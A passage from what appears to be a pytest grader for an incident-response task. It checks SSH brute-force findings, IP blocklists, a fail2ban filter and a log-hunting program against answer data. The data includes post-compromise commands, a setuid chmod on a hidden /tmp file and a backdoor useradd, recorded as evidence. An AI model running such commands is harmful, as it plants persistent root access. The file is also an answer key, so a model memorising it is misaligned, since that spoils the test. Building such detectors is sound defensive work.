                        '10.87.16.117 port 37486',
                        None],
                       ['2025-07-06T22:04:12.768097+00:00 web-edge-01 sshd[6318]: Failed password for invalid user '
                        'nagios from 10.87.16.117 port 34943 ssh2',
                        '10.87.16.117'],
                       ['2025-07-06T22:04:39.822654+00:00 web-edge-01 sshd[6324]: Failed password for invalid user '
                        'admin from 10.87.16.117 port 35226 ssh2',
                        '10.87.16.117'],
                       ['2025-07-06T22:07:31.700455+00:00 web-edge-01 sshd[6336]: pam_unix(sshd:auth): authentication '
                        'failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=10.87.16.117  user=sami',
                        None],
                       ['2025-07-06T22:08:12.956094+00:00 web-edge-01 sshd[6352]: Failed password for invalid user '
                        'user from 10.87.16.117 port 56035 ssh2',
                        '10.87.16.117'],
                       ['2025-07-06T22:09:17.734648+00:00 web-edge-01 sshd[6365]: pam_unix(sshd:auth): check pass; '
                        'user unknown',
                        None]],
            'findings': {'brute_force': [{'failures': 10, 'first_seen': '2025-07-05T01:04:47Z', 'ip': '45.143.222.245'},
                                         {'failures': 15, 'first_seen': '2025-07-06T09:49:45Z', 'ip': '103.177.67.70'},
                                         {'failures': 11, 'first_seen': '2025-07-06T12:59:48Z', 'ip': '185.226.3.168'}],
                         'compromised': [{'ip': '146.40.163.178', 'time': '2025-07-05T04:39:43Z', 'user': 'sami'}],
                         'sudo_after_compromise': [{'command': '/usr/bin/chmod 4755 /tmp/.x',
                                                    'time': '2025-07-05T04:40:26Z',
                                                    'user': 'sami'},
                                                   {'command': '/usr/sbin/useradd -m -s /bin/bash sysupd',
                                                    'time': '2025-07-05T04:40:58Z',
                                                    'user': 'sami'}]}}}]
PROG = '/srv/ir/hunt'
FILTER = '/srv/ir/filter.d/ir-auth.conf'

def _blocklist(path, fmt):
    pat = {"hosts_deny": r"^sshd\s*:\s*(\[[0-9a-fA-F:]+\]|[0-9.]+)\s*$",
           "ipset": r"^add\s+(ir-block4|ir-block6)\s+(\S+)(?:\s+-exist)?\s*$",
           "nft": r"^add\s+element\s+inet\s+filter\s+(ir_block4|ir_block6)\s*\{\s*([^}]*?)\s*\}\s*;?\s*$"}[fmt]
    got, bad = [], []
    with open(path) as f:
        for line in f:
            s = line.strip()
            if not s or s.startswith("#") or (fmt == "ipset" and s.startswith("create ")):
                continue
            m = re.match(pat, s)
            if not m:
                bad.append(s)
                continue
            if fmt == "hosts_deny":
                a = m.group(1)
                v6 = a.startswith("[")
                items = [(a.strip("[]"), v6)]
            else:
                v6 = m.group(1).endswith("6")
                items = [(x.strip(), v6) for x in m.group(2).split(",") if x.strip()]
            for a, v6 in items:
                try:
                    ok = ipaddress.ip_address(a).version == (6 if v6 else 4)
                except ValueError:
                    ok = False
                (got if ok else bad).append(a)
    return got, bad


def problems(out, truth, fmt):
    """What is wrong in the outputs under `out` against `truth` (an empty list: all right)."""
    p = os.path.join(out, "findings.json")
    if not os.path.isfile(p):
        return ["findings.json is missing"]
    try:
        with open(p) as f:
            got = json.load(f)
    except (ValueError, UnicodeDecodeError) as e:
        return [f"findings.json does not parse: {e}"]
    if not isinstance(got, dict):
        return ["findings.json is not an object"]
    msgs = []
    for key, want in sorted(truth["findings"].items()):
        have = got.get(key)
        if not isinstance(have, list) or not all(isinstance(x, dict) for x in have):
            msgs.append(f"findings.json: {key} is not a list of objects")
            continue
        fields = sorted(want[0])
        norm = [{k: x.get(k) for k in fields} for x in have]
        if norm != want:
            miss = [w for w in want if w not in norm][:3]
            extra = [x for x in norm if x not in want][:3]
            msgs.append(f"findings.json: {key} differs (missing {miss}, unexpected {extra}"
                        + (", or out of order)" if not miss and not extra else ")"))
    if "blocklist" in truth:
        p = os.path.join(out, BLOCKFILE)
        if not os.path.isfile(p):
            msgs.append(f"{BLOCKFILE} is missing")
        else:
            have, bad = _blocklist(p, fmt)
            if bad:
                msgs.append(f"{BLOCKFILE}: lines or addresses not in the stated format: {bad[:3]}")
            if sorted(set(have)) != sorted(truth["blocklist"]) or len(have) != len(set(have)):
                msgs.append(f"{BLOCKFILE}: missing {sorted(set(truth['blocklist']) - set(have))[:4]}, "
                            f"unexpected {sorted(set(have) - set(truth['blocklist']))[:4]}, repeated: {len(have) != len(set(have))}")
    if "timeline" in truth:
        p = os.path.join(out, "timeline.csv")
        if not os.path.isfile(p):
            msgs.append("timeline.csv is missing")
        else:
            with open(p, newline="") as f:
                rows = [r for r in csv.reader(f) if r]
            want = [["time", "source", "ip", "user", "event"]] + [list(r) for r in truth["timeline"]]
            if rows != want:
                n = next((i for i, (a, b) in enumerate(zip(rows, want)) if a != b), min(len(rows), len(want)))
                msgs.append(f"timeline.csv: {len(rows) - 1} rows for {len(want) - 1}; first difference at row {n}: "
                            f"{rows[n] if n < len(rows) else None} for {want[n] if n < len(want) else None}")
    return msgs


HOSTRX = r"(?P<host>[0-9A-Fa-f.:]*[0-9A-Fa-f])"


def filter_problems(path, cases):
    """How a fail2ban filter judges held-out lines: a failregex matches (<HOST>: the address), no ignoreregex does."""
    if not os.path.isfile(path):
        return [f"{path} is missing"]
    cp = configparser.ConfigParser(interpolation=None, strict=False)
    try:
        cp.read(path)
        fail = cp.get("Definition", "failregex")
        ign = cp.get("Definition", "ignoreregex", fallback="")
    except (configparser.Error, UnicodeDecodeError) as e:
        return [f"{path}: not a filter with [Definition] failregex ({e})"]
    def compiled(text):
        out = []
        for l in text.splitlines():
            l = l.strip()
            if l:
                out.append(re.compile(l.replace("<HOST>", HOSTRX, 1).replace("<HOST>", "(?:[0-9A-Fa-f.:]+)")))
        return out
    try:
        fails, ignores = compiled(fail), compiled(ign)
    except re.error as e:
        return [f"{path}: a regex does not compile: {e}"]
    bad = []
    for line, want in cases:
        got = None
        if not any(i.search(line) for i in ignores):
            for f in fails:
                m = f.search(line)
                if m:
                    try:
                        a = ipaddress.ip_address(m.group("host"))
                        got = str(getattr(a, "ipv4_mapped", None) or a)
                    except (ValueError, IndexError):
                        got = "(no address)"
                    break
        if got != want:
            bad.append((line[:160], got, want))
    if bad:
        return [f"{path}: {len(bad)} of {len(cases)} held-out lines judged wrong (line, flagged, expected): {bad[:3]}"]
    return []


def test_findings_on_this_host():
    msgs = problems("/srv/ir/out", {"findings": VISIBLE["findings"]}, FMT)
    assert not msgs, "\n".join(msgs)


@pytest.mark.parametrize("case", range(len(HIDDEN)), ids=[h["host"] for h in HIDDEN])
def test_filter_on_held_out_lines(case):
    msgs = filter_problems(FILTER, HIDDEN[case]["truth"]["filter"])
    assert not msgs, "\n".join(msgs)


@pytest.mark.parametrize("case", range(len(HIDDEN)), ids=[h["host"] for h in HIDDEN])
def test_hunt_on_held_out_evidence(case):
    h = HIDDEN[case]
    src = tempfile.mkdtemp()
    ev = os.path.join(src, h["host"])
    os.makedirs(ev)
    for name, data in h["files"].items():
        with open(os.path.join(ev, name), "wb") as f:
            f.write(gzip.decompress(base64.b64decode(data)))
    assert os.path.isfile(PROG), f"{PROG} is missing"
    ev = tg_guard.give(ev)
    prog = tg_guard.give(PROG)
    os.chmod(prog, 0o755)
    out = os.path.join(tg_guard.scratch("out"), "result")
    p = tg_guard.run([prog, ev, out], timeout=120)
    assert p.returncode == 0, f"{PROG} failed on held-out evidence: {p.stderr[-800:]}"
    msgs = problems(out, h["truth"], FMT)
    assert not msgs, f"held-out host {h['host']}: " + "\n".join(msgs)
